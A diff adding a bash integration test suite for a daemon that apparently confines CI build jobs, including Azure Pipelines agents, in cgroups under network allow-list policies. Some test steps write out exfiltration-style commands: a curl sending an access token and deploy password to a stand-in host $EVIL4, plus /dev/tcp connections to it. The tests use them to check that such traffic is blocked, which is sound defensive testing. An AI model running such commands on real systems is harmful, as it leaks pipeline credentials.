@@ -1,0 +1,405 @@
+# shellcheck shell=bash
+# SPDX-License-Identifier: GPL-2.0
+# The daemon among agents as they are: Azure's under another user and in its own guarded cgroup, many
+# jobs at once, containers in jobs, hostile clients and mistakes in the configuration.
+
+. "$HERE/daemon.sh"
+
+# Azure's agent "build-7" in a guarded cgroup, with a policy of its own that allows next to nothing.
+azure_guarded() {
+	policy_feed
+	cat >"$CASE/release.yaml" <<-END
+	version: 1
+	allow: [ tcp://other.example:8080 ]
+	END
+	cat >"$CASE/agent.yaml" <<-END
+	version: 1
+	allow: [ https://dev.azure.com ]
+	END
+	AZURE=on config <<-END
+	policies:
+	  - { agent: "build-*", pool: Default, project: Fabrikam, definition: "* of release*", policy: release.yaml }
+	guard:
+	  - { cgroup: "$AGENT_PATH", policy: agent.yaml, name: agents }
+	END
+	mkdir "$AGENT_CGROUP"
+	daemon_start
+	records_are
+	azure_start build-7 "$AGENT_CGROUP"
+}
+
+# The agent's own guard ends with its cgroup.
+azure_guarded_left() {
+	wait_until 20 no_jobs || fail "cgroups are left: $(job_cgroups)"
+	azure_stop
+	rmdir "$AGENT_CGROUP"
+	nothing_left
+}
+
+test_daemon_an_azure_job_has_its_policy_and_its_names() {
+	azure_guarded
+	step <<-END
+	grep -q daemon/job- /proc/self/cgroup || exit 3
+	$JOB tcp other.example 8080 || exit 4
+	curl -s -m 5 --oauth2-bearer "\$SYSTEM_ACCESSTOKEN" -H "Authorization: Basic \$DEPLOY_PASSWORD" http://$EVIL4:8080 &&
+		exit 5
+	exit 0
+	END
+	azure_job build-7 release <<-END
+	SYSTEM_JOBID=job-of-release
+	BUILD_BUILDID=4711
+	step=$CASE/step
+	END
+	wait_until 20 jobs_know 1 '"AzpDefinitionName": "pipeline of release"' ||
+		fail "the job's definition is not known: $(ctl jobs --json)"
+	go
+	azure_done build-7 release
+	nothing_arrived "$EVIL4"
+	recorded Reason=not-allowed DvcAction=Deny 'JobName=build-7.*' AzpJobId=job-of-release AzpBuildId=4711 \
+		'AzpDefinitionName=pipeline of release' AzpProjectName=Fabrikam PolicyName=release \
+		"CgroupPath=$DAEMON_PATH/job-*" SrcUserId=65534
+	azure_guarded_left
+	no_secret_in "$RECORDS" "$CASE/state" "$CASE/err" "$CASE/out"
+}
+
+no_secret_in() {
+	local found
+	found=$(grep -rl standin-secret "$@") && fail "a secret stands in $found"
+	return 0
+}
+
+# Before the daemon can know of the worker, the policy of its agent's cgroup holds for it.
+test_daemon_a_workers_first_instruction_is_refused() {
+	azure_guarded
+	local i
+	for i in 1 2 3 4 5; do
+		azure_job build-7 "early-$i" <<-END
+		first=$EVIL4:$((9000 + i))
+		END
+	done
+	for i in 1 2 3 4 5; do
+		azure_done build-7 "early-$i"
+		grep -q "first connect: Operation not permitted" "$CASE/build-7/_diag/early-$i.log" ||
+			fail "its first connect: $(azure_log build-7 "early-$i")"
+	done
+	nothing_arrived "$EVIL4"
+	azure_guarded_left
+	for i in 1 2 3 4 5; do
+		count EventResult=Failure "DstPortNumber=$((9000 + i))" Reason=not-allowed
+		[ "$COUNT" = 1 ] || fail "the first connect of job $i is recorded $COUNT times"
+	done
+}
+
+# The daemon may be late: what the worker started meanwhile is part of its job nevertheless.
+test_daemon_children_of_a_worker_are_moved_with_it() {
+	policy_feed
+	AZURE=on config </dev/null
+	daemon_start
+	records_are
+	azure_start build-7 "$AGENT_CGROUP"
+	step <<-END
+	$JOB tcp $EVIL4 8080 && exit 3
+	exit 0
+	END
+	cat >"$CASE/outer" <<-END
+	touch "\$CASE/marks/begun"
+	bash "\$CASE/step"
+	END
+	kill -STOP $DAEMON
+	azure_job build-7 late <<-END
+	step=$CASE/outer
+	SYSTEM_JOBID=late
+	END
+	wait_until 20 test -e "$CASE/marks/begun" || { kill -CONT $DAEMON; fail "the job did not begin"; }
+	kill -CONT $DAEMON
+	wait_until 20 jobs_know 1 '"AzpJobId": "late"' || fail "the job is not known"
+	go
+	azure_done build-7 late
+	nothing_arrived "$EVIL4"
+	recorded EventResult=Failure AzpJobId=late
+	nothing_left
+}
+
+# Two agents, a hundred jobs each, all at once: each has its own cgroup, name and records.
+test_daemon_two_agents_and_200_jobs_at_once() {
+	local i agent begin=$EPOCHREALTIME
+	policy_feed
+	AZURE=on config <<-END
+	limits: { jobs: 250 }
+	END
+	daemon_start
+	records_are
+	step <<-END
+	sed -n 's/^0:://p' /proc/self/cgroup >"\$CASE/marks/\$AGENT_JOBNAME"
+	for try in 1 2; do (exec 3<>/dev/tcp/$EVIL4/8080) && exit 3; done
+	exit 0
+	END
+	for agent in north south; do
+		azure_start $agent "$CASE_CGROUP/$agent" 100
+		for i in $(seq 100); do
+			printf 'SYSTEM_JOBID=id-%s-%d\nBUILD_BUILDID=%d\nstep=%s\n' $agent "$i" "$i" "$CASE/step" |
+				azure_job $agent "$agent-$i"
+		done
+	done
+	wait_until 60 jobs_know 200 '"AzpJobId": "id-' || fail "only $(job_cgroups | wc -l) jobs have cgroups"
+	jobs_know 100 '"agent": "north"' || fail "the agents' names are not told apart"
+	local known=$EPOCHREALTIME
+	go
+	for i in $(seq 100); do azure_done north "north-$i" && azure_done south "south-$i"; done
+	local done=$EPOCHREALTIME
+	wait_until 60 no_jobs
+	nothing_left
+	azure_stop
+	rmdir "$CASE_CGROUP/north" "$CASE_CGROUP/south"
+	echo "# 200 jobs known after $(((${known/./} - ${begin/./}) / 1000)) ms, done after" \
+		"$(((${done/./} - ${known/./}) / 1000)) ms, gone after $(((${EPOCHREALTIME/./} - ${done/./}) / 1000)) ms"
+	count EventResult=Failure
+	[ "$COUNT" = 400 ] || fail "$COUNT attempts of 200 jobs are recorded, not 400"
+	nothing_arrived "$EVIL4"
+	$PYTHON - "$RECORDS" "$CASE/marks" >"$CASE/out" <<-'END' || fail "not one job's: $(tail -n 3 "$CASE/out")"
+	import collections, json, os, sys
+	jobs = collections.defaultdict(lambda: [0, set()])
+	for record in map(json.loads, open(sys.argv[1])):
+	    job = jobs[record["AzpJobId"]]
+	    job[0] += record["EventCount"]
+	    job[1].add((record["JobName"], record["CgroupPath"]))
+	cgroups = set()
+	for name in os.listdir(sys.argv[2]):
+	    own = open(os.path.join(sys.argv[2], name)).read().strip()
+	    cgroups.add(own)
+	    count, where = jobs["id-" + name]
+	    agent = name.split("-")[0] + "."
+	    if count != 2 or [path for job, path in where if job.startswith(agent)] != [own]:
+	        sys.exit(print(name, own, count, where) or 1)
+	sys.exit(len(cgroups) != 200 and (print(len(cgroups), "cgroups") or 1))
+	END
+}
+
+# On Azure's machines the VM agent may be what runs the build agent: the worker is guarded, it is not.
+test_daemon_the_vm_agent_stays_unguarded() {
+	local unit=$CASE_CGROUP/azure.slice/walinuxagent.service name
+	policy_feed
+	AZURE=on config </dev/null
+	daemon_start
+	records_are
+	azure_start build-7 "$unit"
+	step <<-END
+	$JOB tcp $EVIL4 8080 && exit 3
+	exit 0
+	END
+	printf 'step=%s\n' "$CASE/step" | azure_job build-7 alpha
+	wait_until 20 jobs_know 1 '"AzpDefinitionName": "pipeline of alpha"' || fail "the job is not known"
+	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "the VM agent is guarded"
+	! ctl attach --job vm --cgroup "$unit" 2>"$CASE/err2" || fail "the VM agent can be attached"
+	grep -q "walinuxagent.service holds the Azure VM agent" "$CASE/err2" || fail "it says: $(cat "$CASE/err2")"
+	go
+	azure_done build-7 alpha
+	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "the VM agent is guarded afterwards"
+	nothing_left
+	recorded EventResult=Failure 'JobName=build-7.*' "CgroupPath=$DAEMON_PATH/job-*"
+	azure_stop
+	rmdir "$unit" "${unit%/*}"
+}
+
+# A container runtime makes cgroups below that of the job that started it.
+test_daemon_a_cgroup_below_a_jobs_is_guarded_and_removed() {
+	daemon_with_feed
+	step <<-END
+	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
+	$JOB tcp feed.example 8080 >/dev/null && touch "\$CASE/marks/feed"
+	touch "\$CASE/marks/over"
+	END
+	cat >"$CASE/runtime" <<-END
+	box=$CGROUP2\$(sed -n 's/^0:://p' /proc/self/cgroup)/docker/box
+	mkdir -p "\$box"
+	(echo \$BASHPID >"\$box/cgroup.procs" && exec bash "$CASE/step") </dev/null >/dev/null 2>&1 &
+	until grep -q \$! "\$box/cgroup.procs"; do sleep 0.02; done
+	END
+	forge alpha bash "$CASE/runtime"
+	jobs_are 1 || fail "the job's cgroup went, with processes below"
+	go
+	wait_until 20 test -e "$CASE/marks/over" || fail "the container did not end"
+	[ ! -e "$CASE/marks/open" ] || fail "the container reached $EVIL4"
+	[ -e "$CASE/marks/feed" ] || fail "the container cannot reach the feed"
+	nothing_left
+	recorded EventResult=Failure ForgeJobId=alpha
+}
+
+# Whoever floods the socket, a job of root's or somebody, costs neither records nor answers nor memory.
+test_daemon_hostile_clients_change_nothing() {
+	daemon_with_feed
+	mkdir "$CASE_CGROUP/other"
+	ctl attach --job other --cgroup "$CASE_CGROUP/other" || fail "cannot attach"
+	cat >"$CASE/steps" <<-END
+	until [ -e "$CASE/over" ]; do (exec 3<>/dev/tcp/$EVIL4/8080) 2>/dev/null || echo refused >>"$CASE/refused"; sleep 0.1; done
+	END
+	forge alpha bash "$CASE/steps" &
+	local job=$! hostile=() slowest=0 begin took end
+	wait_until 20 test -s "$CASE/refused" || fail "the job did not begin"
+	# Less of the processor than the daemon, which has its service's share: what waits is its own doing.
+	inside "$CASE_CGROUP/other" nice -n 10 $PYTHON "$HERE/hostile.py" "$SOCKET" 5 300 >"$CASE/hostile-root" 2>&1 &
+	hostile+=($!)
+	setpriv --reuid 65534 --regid 65534 --clear-groups nice -n 10 $PYTHON "$HERE/hostile.py" "$SOCKET" 5 300 \
+		>"$CASE/hostile-nobody" 2>&1 &
+	hostile+=($!)
+	end=$((SECONDS + 5))
+	while [ $SECONDS -lt $end ]; do
+		begin=$EPOCHREALTIME
+		ctl status >"$CASE/out" 2>&1 || fail "no status: $(cat "$CASE/out")"
+		took=$(((${EPOCHREALTIME/./} - ${begin/./}) / 1000))
+		[ $took -le $slowest ] || slowest=$took
+		sleep 0.1
+	done
+	wait "${hostile[@]}" || fail "an answer was odd: $(cat "$CASE/hostile-root" "$CASE/hostile-nobody")"
+	touch "$CASE/over"
+	wait $job
+	local memory
+	memory=$(sed -n 's/^VmHWM:[^0-9]*\([0-9]*\) kB/\1/p' "/proc/$DAEMON/status")
+	echo "# status took at most $slowest ms, memory at most $memory KiB; $(cat "$CASE/hostile-root" "$CASE/hostile-nobody")"
+	[ $slowest -lt $((1000 * SLOW)) ] || fail "status took $slowest ms"
+	[ "$memory" -lt 32768 ] || fail "the daemon had $memory KiB"
+	ctl detach --job other || fail "cannot detach"
+	rmdir "$CASE_CGROUP/other"
+	nothing_left
+	count ForgeJobId=alpha EventResult=Failure
+	[ "$COUNT" = "$(wc -l <"$CASE/refused")" ] || fail "$(wc -l <"$CASE/refused") attempts, $COUNT recorded"
+}
+
+# Who is guarded shall not take the guard off, root or not.
+test_daemon_root_in_a_job_may_change_nothing() {
+	daemon_with_feed
+	mkdir "$CASE_CGROUP/other"
+	ctl attach --job other --cgroup "$CASE_CGROUP/other" || fail "cannot attach"
+	cat >"$CASE/steps" <<-END
+	[ "\$(id -u)" = 0 ] || exit 9
+	mkdir -p $CGROUP2\$(sed -n 's/^0:://p' /proc/self/cgroup)/box || exit 8
+	ask() { ! "$BUILDFENCE" "\$@" --socket "$SOCKET" >"$CASE/said" 2>&1 && grep -q "is for root only" "$CASE/said"; }
+	all() {
+		ask attach --job mine --cgroup "$AGENT_CGROUP" && ask attach --job mine --cgroup self &&
+			ask detach --job other && ask detach --job "\$1" && ask reload && ask jobs
+	}
+	name=forge-1.\$PPID
+	all "\$name" || exit 1
+	echo \$\$ >$CGROUP2\$(sed -n 's/^0:://p' /proc/self/cgroup)/box/cgroup.procs || exit 7
+	all "\$name" || exit 2
+	"$BUILDFENCE" status --socket "$SOCKET" --cgroup self >/dev/null || exit 3
+	exit 0
+	END
+	forge alpha bash "$CASE/steps" || fail "root in a job ($?): $(cat "$CASE/said")"
+	jobs_know 1 '"name": "other"' || fail "the other job is gone"
+	inside "$CASE_CGROUP/other" bash "$CASE/steps" || fail "root in an attached cgroup ($?): $(cat "$CASE/said")"
+	ctl detach --job other || fail "root outside cannot detach"
+	rmdir "$CASE_CGROUP/other/box" "$CASE_CGROUP/other"
+	nothing_left
+}
+
+# The process that connected is gone when the daemon looks: nobody knows whose the request is.
+test_daemon_root_whose_process_ended_may_change_nothing() {
+	daemon_with_feed
+	cat >"$CASE/ask.py" <<-'END'
+	import os, socket, sys, time
+	open(os.environ["CASE"] + "/begun", "w")
+	while not os.path.exists(os.environ["CASE"] + "/stopped"):
+	    time.sleep(0.02)
+	client = socket.socket(socket.AF_UNIX)
+	child = os.fork()
+	if not child:
+	    client.connect(sys.argv[1])
+	    client.sendall(b'{"request":"jobs"}\n')
+	    os._exit(0)
+	os.waitpid(child, 0)
+	open(os.environ["CASE"] + "/asked", "w")
+	print(client.makefile().readline())
+	END
+	forge alpha $PYTHON "$CASE/ask.py" "$SOCKET" >"$CASE/answer" &
+	local job=$!
+	wait_until 20 test -e "$CASE/begun" || fail "the job did not begin"
+	kill -STOP $DAEMON
+	touch "$CASE/stopped"
+	wait_until 20 test -e "$CASE/asked" || { kill -CONT $DAEMON; fail "nobody asked"; }
+	kill -CONT $DAEMON
+	wait $job
+	grep -q '"ok": *false.*only' "$CASE/answer" || fail "it was answered: $(cat "$CASE/answer")"
+	nothing_left
+}
+
+# daemon_refuses TEXT: it ends with status 1 and quotes that.
+daemon_refuses() {
+	STATUS=0
+	timeout -k 5 $((20 * SLOW)) "$BUILDFENCE" daemon --config "$CASE/config.yaml" >"$CASE/out" 2>"$CASE/err" || STATUS=$?
+	status_is 1
+	says "$1"
+	cp "$CASE/good.yaml" "$CASE/policy.yaml"
+}
+
+test_daemon_broken_files_at_the_start_leave_jobs_guarded() {
+	daemon_with_feed
+	cp "$CASE/policy.yaml" "$CASE/good.yaml"
+	step <<-END
+	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
+	$JOB tcp feed.example 8080 >/dev/null && touch "\$CASE/marks/feed"
+	touch "\$CASE/marks/tried"
+	until [ -e "\$CASE/again" ]; do sleep 0.02; done
+	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
+	exit 0
+	END
+	forge alpha bash "$CASE/step" >/dev/null 2>&1 &
+	local job=$!
+	wait_until 20 jobs_know 1 '"ForgeJobId": "alpha"' || fail "the job is not known"
+	daemon_kill KILL
+	printf 'version: 1\nallow: [ "https://feed.example:99999" ]\n' >"$CASE/policy.yaml"
+	daemon_refuses "policy.yaml:2:.*99999"
+	sed -i 's/^azure: off/azure: perhaps/' "$CASE/config.yaml"
+	daemon_refuses "config.yaml:.*perhaps"
+	sed -i 's/^azure: perhaps/azure: off/' "$CASE/config.yaml"
+	mv "$CASE/policy.yaml" "$CASE/moved.yaml"
+	daemon_refuses "policy.yaml"
+	go
+	wait_until 20 test -e "$CASE/marks/tried" || fail "the job did not go on"
+	[ -e "$CASE/marks/feed" ] || fail "the job cannot reach its feed any more"
+	daemon_start
+	says "took over 1 guarded job"
+	touch "$CASE/again"
+	wait $job
+	[ ! -e "$CASE/marks/open" ] || fail "the job reached $EVIL4"
+	nothing_left
+	count ForgeJobId=alpha EventResult=Failure
+	[ "$COUNT" = 2 ] || fail "$COUNT attempts are recorded, not 2"
+}
+
+# SIGHUP: agents and guarded cgroups come, running jobs stay, and what needs a restart is told.
+test_daemon_sighup_takes_a_new_configuration() {
+	local unit=$CASE_CGROUP/unit line
+	daemon_with_feed
+	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "not reachable without a guard"
+	hang_up() {
+		: >"$CASE/err"
+		kill -HUP $DAEMON
+		wait_until 10 grep -q "reloaded" "$CASE/err" || fail "the daemon does not reload"
+	}
+	AZURE=on config <<-END
+	guard:
+	  - { cgroup: "${unit#"$CGROUP2"}" }
+	END
+	hang_up
+	says_not "after a restart"
+	wait_until 10 ctl status --cgroup "$unit" >/dev/null || fail "the new cgroup is not guarded"
+	! inside "$unit" $JOB tcp $EVIL4 8080 2>/dev/null || fail "it reached $EVIL4"
+	azure_start build-7 "$AGENT_CGROUP"
+	step </dev/null
+	printf 'step=%s\n' "$CASE/step" | azure_job build-7 alpha
+	wait_until 10 jobs_know 1 '"AzpDefinitionName": "pipeline of alpha"' || fail "the new agent's job is not seen"
+	go
+	azure_done build-7 alpha
+	for line in 'limits: { jobs: 8 }' "cgroup: $AGENT_PATH"; do
+		config </dev/null
+		[ "${line%%:*}" != cgroup ] || sed -i '/^cgroup:/d' "$CASE/config.yaml"
+		echo "$line" >>"$CASE/config.yaml"
+		hang_up
+		says "act only after a restart"
+	done
+	recorded EventResult=Failure "CgroupPath=${unit#"$CGROUP2"}" JobName=guarded:*
+	forge beta $JOB tcp feed.example 8080 >/dev/null || fail "jobs are not taken any more"
+	rmdir "$unit"
+	nothing_left
+}
